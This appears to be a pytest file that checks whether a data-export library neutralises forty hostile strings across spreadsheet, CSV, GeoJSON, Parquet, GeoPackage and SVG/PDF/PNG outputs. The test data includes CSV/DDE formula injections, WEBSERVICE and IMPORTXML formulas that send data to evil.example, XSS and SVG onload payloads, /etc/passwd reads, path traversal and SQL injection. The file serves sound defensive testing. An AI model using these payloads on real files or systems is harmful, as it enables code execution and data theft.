"""Forty hostile texts through names, titles and file names into every format: no formula, link, script or path."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from dataclasses import replace
from pathlib import Path
from xml.etree import ElementTree

import openpyxl
import pyarrow.parquet as pq
import pyogrio
import pypdfium2
import pytest

from ioc.exports import columnar, delimited, geojson, workbook
from ioc.exports.dataset import Column, Dataset, Form
from ioc.exports.making import Request, opened, view_of
from ioc.exports.numbers import about
from ioc.exports.pages import write as write_picture
from ioc.exports.pictures import Chart, Map, Rows
from ioc.exports.texts import cell_text, file_name
from tests.exports.conftest import Desk

HOSTILE = (
    "=1+1", "=HYPERLINK(\"http://evil.example\",\"x\")", "+SUM(A1:A9)", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1",
    "＝1+1", "＋1", "－1", "＠SUM(1)", " =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=cmd|'/C calc'!A0",
    "|calc", "%0A=1+1", "=WEBSERVICE(\"http://evil.example/\"&A1)", "=IMPORTXML(\"http://evil.example\",\"//a\")",
    "<script>alert(1)</script>", "</text><script>alert(1)</script>", "<image href=\"file:///etc/passwd\"/>", "&lt;script&gt;",
    "]]><script>1</script>", "\"><svg onload=alert(1)>", "javascript:alert(1)", "http://evil.example/x", "file:///etc/passwd", "mailto:a@b.example",
    "#import \"/etc/passwd\"", "#read(\"/etc/passwd\")", "$x$ *bold* _it_ `raw` @ref <label>", "../../etc/passwd", "..\\..\\windows\\win.ini",
    "a/b\\c:d*e?f\"g<h>i|j", "CON", "x\x00y.exe", "\u202egnp.exe", "'; DROP TABLE job; --\ud800",
)  # fmt: skip


@pytest.fixture(scope="module")
def poisoned(desk: Desk) -> Dataset:
    """A data set whose every text is hostile."""
    made = about(
        desk.board, "vi", title=" ".join(HOSTILE), subject=HOSTILE[0], area=HOSTILE[33], time=HOSTILE[35], unit=HOSTILE[21],
        period=HOSTILE[20], scope=HOSTILE[22], source=HOSTILE[1], as_of=HOSTILE[27], quality=HOSTILE[30], basis=HOSTILE[31],
        filters=tuple((text, text) for text in HOSTILE), legend=HOSTILE, notes=HOSTILE[:6], marks=(HOSTILE[24],),
    )  # fmt: skip
    columns = (
        Column("name", HOSTILE[1]),
        Column("code", HOSTILE[20], Form.CODE),
        Column("value", "=A1", Form.NUMBER, "=B1", 1),
    )
    rows = [(text, text, float(at)) for at, text in enumerate(HOSTILE)]
    return Dataset(made, columns, rows, ["00001"] * len(rows))


def test_forty_texts_are_tried() -> None:
    assert len(HOSTILE) == 40 == len(set(HOSTILE))


def test_a_workbook_has_neither_formula_nor_link_and_its_numbers_stay_numbers(
    poisoned: Dataset, tmp_path: Path
) -> None:
    path = tmp_path / "x.xlsx"
    workbook.write(poisoned, path)
    for sheet in openpyxl.load_workbook(path).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type in ("s", "n") and cell.hyperlink is None, cell.value
    with zipfile.ZipFile(path) as parts:
        for name in parts.namelist():
            text = parts.read(name).decode("utf-8")
            assert "<f>" not in text and "<hyperlink" not in text
            assert not re.search(
                r'Target="(?!(?:xl/|docProps/|worksheets/|theme/|styles|sharedStrings))', text
            ), name
    values = [row[2].value for row in openpyxl.load_workbook(path).worksheets[0].iter_rows(min_row=2)]
    assert values == [float(at) for at in range(40)]


def test_no_field_of_a_csv_begins_a_formula(poisoned: Dataset) -> None:
    content = b"".join(delimited.write(poisoned)).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content, newline="")))
    assert len(rows) == 41 and len({len(row) for row in rows}) == 1
    for row in rows:
        for at, field in enumerate(row):
            bare = field.lstrip(" \u00a0\u200b\ufeff")
            assert at == 2 or not bare.startswith(
                ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "|", "%")
            ), field
    assert [float(row[2]) for row in rows[1:]] == [float(at) for at in range(40)]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_file_name_is_letters_digits_and_hyphens_whatever_it_is_made_of(text: str) -> None:
    name = file_name(text, text, text, "csv")
    assert re.fullmatch(
        r"[A-Za-z0-9](?:[A-Za-z0-9.-]*[A-Za-z0-9])?(?:_[A-Za-z0-9][A-Za-z0-9.-]*){2}\.csv", name
    ), name
    assert ".." not in name and len(name) < 200
    assert "\x00" not in cell_text(text)


def test_geojson_and_parquet_keep_the_texts_as_data_and_nothing_ends_a_page_around_them(
    poisoned: Dataset, tmp_path: Path
) -> None:
    kept = replace(poisoned, rows=[row for row in poisoned.rows if "\ud800" not in str(row[0])], areas=[None] * 39,
                   about=replace(poisoned.about, title="x", filters=(), legend=()))  # fmt: skip
    text = b"".join(geojson.write(kept, {})).decode()
    assert "<" not in text and [one["properties"]["value"] for one in json.loads(text)["features"]] == [
        float(at) for at in range(39)
    ]
    columnar.write(kept, tmp_path / "x.parquet")
    assert pq.read_table(tmp_path / "x.parquet").column("name").to_pylist() == list(HOSTILE[:39])


def _view(desk: Desk):
    request = Request(subject="kpi-map", format="svg", options={"kpi": "online"})
    _, options = opened(desk.office.exports, request, desk.board, desk_scope())
    return view_of(desk.office, desk.board, options, desk_scope(), "vi")


def desk_scope():
    from ioc.access import OPEN

    return OPEN


PICTURES = {
    "table": Rows(),
    "map": Map({"00001": "grade-g"}, {"00001": HOSTILE[21]}, {"00001": HOSTILE[22]}, (), HOSTILE[23]),
    "chart": Chart({
        "data": [{"type": "scatter", "mode": "lines+markers+text", "x": [*HOSTILE], "y": list(range(40)), "text": [*HOSTILE], "name": HOSTILE[20],
                  "line": {"color": 'red" onload="alert(1)', "dash": '1"/><script>'}, "marker": {"color": ["url(http://evil.example)"] * 40}}],
        "layout": {"xaxis": {"title": HOSTILE[21]}, "annotations": [{"text": HOSTILE[22], "x": HOSTILE[0], "y": 1}], "showlegend": True},
    }),
}  # fmt: skip


@pytest.mark.parametrize("kind", PICTURES)
@pytest.mark.parametrize("form", ["svg", "pdf", "png"])
def test_a_picture_holds_no_script_no_link_and_no_file(
    poisoned: Dataset, desk: Desk, kind: str, form: str, tmp_path: Path
) -> None:
    path = tmp_path / f"x.{form}"
    write_picture(PICTURES[kind], _view(desk), poisoned, form, "print", path)
    if form == "svg":
        root = ElementTree.fromstring(path.read_text(encoding="utf-8"))  # noqa: S314 - our own file
        for node in root.iter():
            tag = node.tag.split("}")[-1]
            assert tag in {"svg", "g", "path", "rect", "circle", "text", "title", "defs", "pattern"}, tag
            for name, value in node.attrib.items():
                assert "href" not in name and not name.lower().startswith("on"), name
                assert "http" not in value and ("url(" not in value or value.startswith("url(#hatch-")), value
    elif form == "pdf":
        assert not re.search(rb"/(JavaScript|JS|Launch|URI|EmbeddedFile|AA)\b", path.read_bytes())
        assert len(pypdfium2.PdfDocument(path)) >= 1
    else:
        assert path.read_bytes().startswith(b"\x89PNG")


def test_a_geopackage_keeps_them_as_text(desk: Desk, poisoned: Dataset, tmp_path: Path) -> None:
    kept = replace(
        poisoned,
        rows=poisoned.rows[:37],
        areas=["00001"] * 37,
        about=replace(poisoned.about, title=HOSTILE[1], filters=(), legend=()),
    )
    desk.office.exports.writers["gpkg"](_view(desk), kept, tmp_path / "x.gpkg")
    table = pyogrio.read_dataframe(tmp_path / "x.gpkg", layer="so_lieu")
    assert table["name"].tolist() == list(HOSTILE[:37]) and table["value"].tolist() == [
        float(at) for at in range(37)
    ]


def test_the_unit_per_cent_stays_as_it_is_and_what_follows_a_sign_of_per_cent_does_not() -> None:
    assert cell_text("%") == "%"
    assert cell_text("%0A=1+1") == "'%0A=1+1"
